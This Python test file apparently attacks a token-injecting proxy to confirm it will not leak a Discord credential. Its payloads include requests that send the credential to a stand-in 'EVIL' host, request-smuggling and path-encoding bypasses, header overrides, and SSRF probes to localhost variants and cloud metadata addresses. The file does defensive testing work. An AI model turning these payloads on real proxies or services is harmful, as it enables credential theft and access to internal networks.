"""Attacks on the proxy of the run: make it send the credential elsewhere, or hand it back.

Each request names its attack in `X-Attack`, so that who looks at the servers knows what came of it.
"""

from __future__ import annotations

import base64
import os
import re
import socket
import ssl
from collections.abc import Callable
from functools import partial

from tests.e2e.hostile import (
    AUTH,
    CREDENTIALS,
    DISCORD,
    EVIL,
    PROXY,
    TOKEN,
    TUNNELS,
    absolute,
    clear,
    dial,
    get,
    read,
)

Result = tuple[str, bytes]

ECHOES = 23
"""Answers that the server has ready, each with the credential in another form."""

LIMITED = "/api/v10/users/@me"
"""All that a run with limits may ask for."""


def sent(text: str) -> Result:
    """What an answer means."""
    loot = text.encode("latin-1")
    if not text:
        return "cut", loot
    refused = "X-Authsome-Refused" in text or re.match(r"HTTP/1\.1 (400|407)", text)
    return ("refused" if refused else "harmless"), loot


def marked(name: str, request: str) -> str:
    return request.replace("\r\n", f"\r\nX-Attack: {name}\r\n", 1)


def encrypted(connection: socket.socket, sni: str | None, request: str | bytes) -> str:
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    with context.wrap_socket(connection, server_hostname=sni) as wrapped:
        wrapped.sendall(request.encode("latin-1") if isinstance(request, str) else request)
        return read(wrapped)


def tunnel(authority: str, sni: str | None, request: str) -> Result:
    with dial(authority) as connection:
        return sent(encrypted(connection, sni, request))


def captured(name: str, host: str, sni: str | None, request: str) -> Result:
    """The same without asking the proxy: what ignores its variables is captured in a sandbox."""
    if os.environ["LEVEL"] != "sandbox":
        return "-", b""
    with socket.create_connection((host, 443), 10) as connection:
        return sent(encrypted(connection, sni, marked(f"captured {name}", request)))


def captured_clear() -> Result:
    if os.environ["LEVEL"] != "sandbox":
        return "-", b""
    with socket.create_connection((DISCORD, 80), 10) as connection:
        connection.sendall(get(DISCORD).encode())
        return sent(read(connection))


def asked(request: str, patience: float = 10) -> Result:
    """A request to the proxy itself, which may leave the connection open."""
    with socket.create_connection((PROXY.hostname or "", PROXY.port or 0), timeout=10) as connection:
        connection.sendall(request.encode("latin-1"))
        if patience < 10:
            connection.settimeout(patience)
            return sent(connection.recv(65536).decode("latin-1"))
        return sent(read(connection))


def second_encrypted() -> Result:
    """A request for TLS that the proxy is to make, behind one that is in order."""
    first = f"GET http://{EVIL}/standin/echo HTTP/1.1\r\nHost: {EVIL}\r\n{CREDENTIALS}\r\n\r\n"
    second = f"GET https://{DISCORD}/standin/echo HTTP/1.1\r\nHost: {DISCORD}\r\nConnection: close\r\n\r\n"
    return asked(first + second)


def abroad(authority: str) -> Result:
    """A tunnel to where only this machine should get; whatever is there speaks first."""
    with dial(authority) as connection:
        return "open", read(connection).encode("latin-1")


def own_address() -> Result:
    """This machine's address in its network."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))
        except OSError:
            return "-", b""
        return abroad(f"{probe.getsockname()[0]}:{os.environ['LOOPBACK_PORT']}")


def with_password(text: str) -> Result:
    words = f"Proxy-Authorization: Basic {base64.b64encode(text.encode()).decode()}\r\n" if text else ""
    return asked(
        f"CONNECT {DISCORD}:443 HTTP/1.1\r\nHost: {DISCORD}:443\r\n{words}Connection: close\r\n\r\n", 1.0
    )


def second_run() -> Result:
    """The proxy of the other run, with this run's password; and with the other's, where it can be seen."""
    port = int(os.environ["SECOND_PORT"])
    with socket.create_connection(("127.0.0.1", port), timeout=10) as connection:
        head = f"CONNECT {DISCORD}:443 HTTP/1.1\r\nHost: {DISCORD}:443\r\n{CREDENTIALS}\r\n\r\n"
        connection.sendall(head.encode())
        connection.shutdown(socket.SHUT_WR)
        return sent(read(connection))


def http2() -> Result:
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    with dial(f"{DISCORD}:443") as raw, context.wrap_socket(raw, server_hostname=DISCORD) as connection:
        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0")
        return sent(read(connection))


def alternative() -> Result:
    """An answer that tells clients to go another way next time."""
    outcome, loot = tunnel(
        f"{DISCORD}:443", DISCORD, marked("alternative", get(DISCORD, target="/standin/alt-svc"))
    )
    return ("open" if b"alt-svc" in loot.lower() else outcome), loot


def _inside(extra: str = "", target: str = "/standin/echo", method: str = "GET", body: str = "") -> str:
    return get(DISCORD, extra, target, method) + body


INSIDE = {
    "honest": _inside(),
    "limited": _inside(target=LIMITED),
    "body": _inside(f"Content-Length: {len(TOKEN)}\r\n", method="POST", body=TOKEN),
    "audit reason": _inside(f"X-Audit-Log-Reason: {TOKEN}\r\n"),
    "cookie": _inside(f"Cookie: t={TOKEN}\r\n"),
    "url": _inside(target=f"/standin/echo?t={TOKEN}"),
    "token in a longer value": _inside().replace(f"{TOKEN}\r\n", f"{TOKEN}, x\r\n"),
    "connect in a tunnel": f"CONNECT {EVIL}:443 HTTP/1.1\r\nHost: {EVIL}:443\r\n{AUTH}\r\n",
    "track": _inside(method="TRACK"),
    "host with user": get(f"{EVIL}@{DISCORD}"),
    "host with another user": get(f"{DISCORD}@{EVIL}"),
    "host with another port": get(f"{DISCORD}:80"),
    "host list": get(f"{DISCORD}, {EVIL}"),
    "no host": f"GET /standin/echo HTTP/1.1\r\n{AUTH}Connection: close\r\n\r\n",
    "nul in a header": _inside("X: a\0b\r\n"),
    "bare return in a header": _inside("X: a\rb\r\n"),
    "space before the colon": _inside("X : a\r\n"),
    "two lengths": _inside("Content-Length: 4\r\nContent-Length: 5\r\n", method="POST", body="12345"),
    "odd transfer coding": _inside("Transfer-Encoding: xchunked\r\n", method="POST", body="0\r\n\r\n"),
    "two transfer codings": _inside(
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n", method="POST", body="0\r\n\r\n"
    ),
    "large headers": _inside().replace(
        "Connection:", "".join(f"X-{n}: {'x' * 4000}\r\n" for n in range(20)) + "C:"
    ),
    "authority form": _inside(target=f"{DISCORD}:443"),
    "asterisk form": _inside(target="*", method="OPTIONS"),
    "two credentials, one foreign": get(DISCORD, "authorization: Basic eDp5\r\n"),
    "upgrade": _inside("Upgrade: websocket\r\n"),
    "path in a header": _inside("X-Original-URL: /api/oauth2/token\r\n"),
    "path in another header": _inside("X_Rewrite_URL: /api/oauth2/token\r\n"),
    **{
        f"{name} header": _inside(f"{name}: /api/oauth2/token\r\n")
        for name in (
            "X-Original-URI",
            "X-Forwarded-Host",
            "X-Forwarded-Prefix",
            "X-Envoy-Original-Path",
            "X-HTTP-Path-Override",
            "Forwarded",
        )
    },
    "escape in the method": _inside(method="G\x1b[31MET"),
    "semicolon in the method": _inside(method=";POST"),
    "byte in the method": _inside(method="G\xc9T"),
    "packed chunks": _inside("Transfer-Encoding: gzip, chunked\r\n", method="POST", body="0\r\n\r\n"),
    "part of an answer": _inside("Range: bytes=0-40\r\nTE: gzip\r\n"),
    "old version": _inside().replace("HTTP/1.1", "HTTP/1.0"),
}
"""Requests in a tunnel whose names agree."""

ENDPOINTS = (
    "/api/oauth2/token",
    "/api/v10/oauth2/token",
    "/api/v10/oauth2/token/revoke",
    "/api/v11/oauth2/token",
    "/api/oauth2//token",
    "/api/./oauth2/token",
    "/api/x/../oauth2/token",
    "/api/oauth2/%74oken",
    "/api/oauth2%2ftoken",
    "/api/oauth2/token/",
    "/api/oauth2/token;x",
    "/api/oauth2/token%20",
    "/api/OAuth2/Token",
    "/api\\oauth2\\token",
    "/api/oauth2/token%3f",
    "/api/oauth2/token#x",
    "/api/%6fauth2/token%00",
    "/api/oauth2/token%23",
    "/api/oauth2/token.",
    "/api/oauth2/token.json",
    "/api/oauth2/token%c2%a0",
    "/api/oauth2/token/x",
    "/api/oauth2%c0%aftoken",
    "/api/oauth2/%ef%bd%94oken",
    "/api/oauth2/to%e2%80%8bken",
    "/api/oauth2%252ftoken",
    "/api/x/oauth2/token",
    "/oauth2/token",
)
"""Ways to write the paths where tokens are made, which a credential is never sent to."""

LIMITS = {
    "other method": _inside(target=LIMITED, method="POST", extra="Content-Length: 0\r\n"),
    "small letters": _inside(target=LIMITED, method="post", extra="Content-Length: 0\r\n"),
    "other path": _inside(target="/api/v10/users/@me/guilds"),
    "query in front": _inside(target=f"/standin/echo?{LIMITED}"),
    "dots": _inside(target=f"{LIMITED}/../../../../standin/echo"),
    "encoded dots": _inside(target=f"/api/%2e%2e{LIMITED}"),
    "encoded slash": _inside(target="/api/v10/users/@me%2fguilds"),
    "backslash": _inside(target="/api/v10/users/@me\\guilds"),
    "double slash": _inside(target="/api//v10/users/@me"),
    "double encoding": _inside(target="/api/v10/users/%2540me"),
    "two segments": _inside(target="/api/v10/x/users/@me"),
    "nothing for a segment": _inside(target="/api/users/@me"),
    "parameters": _inside(target="/api/v10/users/@me;/guilds"),
    "method in small letters": _inside(target=LIMITED, method="get"),
    "encoded query": _inside(target=f"{LIMITED}%3f/guilds"),
    "encoded query for a segment": _inside(target="/api/%3f/users/@me"),
    "wide letters": _inside(target="/api/v10/%ef%bd%95sers/@me"),
    "overridden": _inside("X-HTTP-Method-Override: DELETE\r\n", target=LIMITED),
    "overridden otherwise": _inside("X-Method-Override: DELETE\r\n", target=LIMITED),
    "overridden for CGI": _inside("X_HTTP_Method_Override: DELETE\r\n", target=LIMITED),
    "fragment": _inside(target=f"{LIMITED}#/guilds"),
    "second request": f"GET {LIMITED} HTTP/1.1\r\nHost: {DISCORD}\r\n{AUTH}\r\n"
    + marked("limits: second request", _inside(target="/api/v10/users/@me/guilds")),
}
"""For a run that may ask for `LIMITED` alone."""

ABROAD = (
    "127.0.0.1",
    "localhost",
    "127.1.2.3",
    "0.0.0.0",  # noqa: S104
    "[::1]",
    "[::ffff:127.0.0.1]",
    "[::ffff:7f00:1]",
    "[::]",
    "[64:ff9b::7f00:1]",
    "[2002:7f00:1::]",
    "2130706433",
    "0x7f.0.0.1",
    "0177.0.0.1",
    "127.1",
    "localhost.",
    "LOCALHOST",
    "ip6-localhost",
)
"""Ways to write the address of this machine."""

METADATA = (
    "169.254.169.254:80",
    "[fd00:ec2::254]:80",
    "[fd20:ce::254]:80",
    "192.0.0.192:80",
    "100.100.100.200:80",
    "168.63.129.16:80",
    "224.0.0.1:80",
)


def attacks() -> dict[str, Callable[[], Result]]:
    """Every attack of this file by its name."""
    found: dict[str, Callable[[], Result]] = {}
    for name, (authority, sni, request) in TUNNELS.items():
        full = f"tunnel: {name}"
        found[full] = partial(tunnel, f"{authority}:443", sni, marked(full, request))
        found[f"captured {full}"] = partial(captured, full, authority, sni, request)
    for name, request in INSIDE.items():
        full = f"inside: {name}"
        found[full] = partial(tunnel, f"{DISCORD}:443", DISCORD, marked(full, request))
    for path in ENDPOINTS:
        full = f"endpoint: {path}"
        request = get(DISCORD, "Content-Length: 0\r\n", path, "POST")
        found[full] = partial(tunnel, f"{DISCORD}:443", DISCORD, marked(full, request))
    for name, request in LIMITS.items():
        full = f"limits: {name}"
        found[full] = partial(tunnel, f"{DISCORD}:443", DISCORD, marked(full, request))
    for number in range(ECHOES):
        full = f"echo: {number}"
        request = get(DISCORD, target="/api/v10/users/@me")
        found[full] = partial(tunnel, f"{DISCORD}:443", DISCORD, marked(full, request))
    port = os.environ.get("LOOPBACK_PORT", "0")
    for host in ABROAD:
        found[f"abroad: {host}"] = partial(abroad, f"{host}:{port}")
    for place in METADATA:
        found[f"abroad: {place}"] = partial(abroad, place)
    return found | {
        "captured clear": captured_clear,
        "abroad: own address": own_address,
        "another port": lambda: tunnel(f"{DISCORD}:8443", DISCORD, marked("another port", get(DISCORD))),
        "clear: discord": lambda: sent(absolute(f"http://{DISCORD}/standin/echo", DISCORD)),
        "clear: evil, host discord": lambda: sent(absolute(f"http://{EVIL}/standin/echo", DISCORD)),
        "clear: in a tunnel": lambda: sent(clear(f"{DISCORD}:443", get(DISCORD))),
        "clear: in a tunnel to port 80": lambda: sent(clear(f"{DISCORD}:80", get(DISCORD))),
        "clear: https in absolute form": lambda: sent(absolute(f"https://{DISCORD}/standin/echo", DISCORD)),
        "clear: https after http": second_encrypted,
        "clear: answer": lambda: sent(absolute(f"http://{DISCORD}/api/v10/users/@me", DISCORD, "")),
        "proxy: no password": lambda: with_password(""),
        "proxy: wrong password": lambda: with_password("authsome:guess"),
        "proxy: wrong user": lambda: with_password(f"other:{PROXY.password}"),
        "proxy: its own pages": lambda: asked(f"GET / HTTP/1.1\r\nHost: x\r\n{CREDENTIALS}\r\n\r\n"),
        "proxy: mitm.it": lambda: asked(
            f"GET http://mitm.it/ HTTP/1.1\r\nHost: mitm.it\r\n{CREDENTIALS}\r\nConnection: close\r\n\r\n"
        ),
        "proxy: itself": lambda: abroad(f"127.0.0.1:{PROXY.port}"),
        "proxy: of another run": second_run,
        "http/2": http2,
        "alternative service": alternative,
    }
